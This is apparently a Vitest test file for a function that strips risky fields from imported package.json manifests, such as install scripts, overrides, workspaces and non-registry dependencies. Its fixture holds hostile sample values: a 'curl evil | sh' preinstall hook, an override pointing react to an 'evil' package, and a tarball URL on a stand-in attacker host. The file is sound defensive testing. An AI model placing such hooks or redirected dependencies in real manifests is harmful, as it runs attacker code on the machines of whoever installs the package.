import { describe, expect, it } from 'vitest';
import { packageManifestProblem } from '../preview/package-manifest';
import { importManifest } from './import-manifest';

describe('importManifest', () => {
  it('keeps a manifest the rule accepts exactly as written', () => {
    const text = '{ "name": "app", "scripts": { "dev": "vite" }, "dependencies": { "react": "^19.0.0" } }';
    expect(importManifest(text)).toEqual({ ok: true, content: text, removed: [] });
  });

  it('removes what no version may hold, says each removal, and what is left passes the rule', () => {
    const result = importManifest(
      JSON.stringify({
        name: 'app',
        scripts: { build: 'vite build', preinstall: 'curl evil | sh', prepare: 'husky' },
        overrides: { react: 'npm:evil@1' },
        workspaces: ['a'],
        dependencies: { react: '19.0.0', evil: 'https://evil.example/e.tgz' },
        devDependencies: 'nope',
      }),
    );
    if (!result.ok) throw new Error(result.reason);
    expect(JSON.parse(result.content)).toEqual({ name: 'app', scripts: { build: 'vite build' }, dependencies: { react: '19.0.0' } });
    expect(packageManifestProblem(result.content)).toBeNull();
    expect(result.removed).toEqual([
      'Removed "overrides": it would change what npm installs.',
      'Removed "workspaces": it would change what npm installs.',
      'Removed the "preinstall" script: npm would run it on install.',
      'Removed the "prepare" script: npm would run it on install.',
      'Removed the dependency "evil" of "dependencies": only versions from the npm registry are allowed.',
      'Removed "devDependencies": it must be an object.',
    ]);
  });

  it('does not keep a manifest that is not a JSON object', () => {
    expect(importManifest('{ nope')).toMatchObject({ ok: false, reason: expect.stringMatching(/Not valid JSON/) });
    expect(importManifest('[1]')).toMatchObject({ ok: false, reason: expect.stringMatching(/Not a JSON object/) });
  });
});
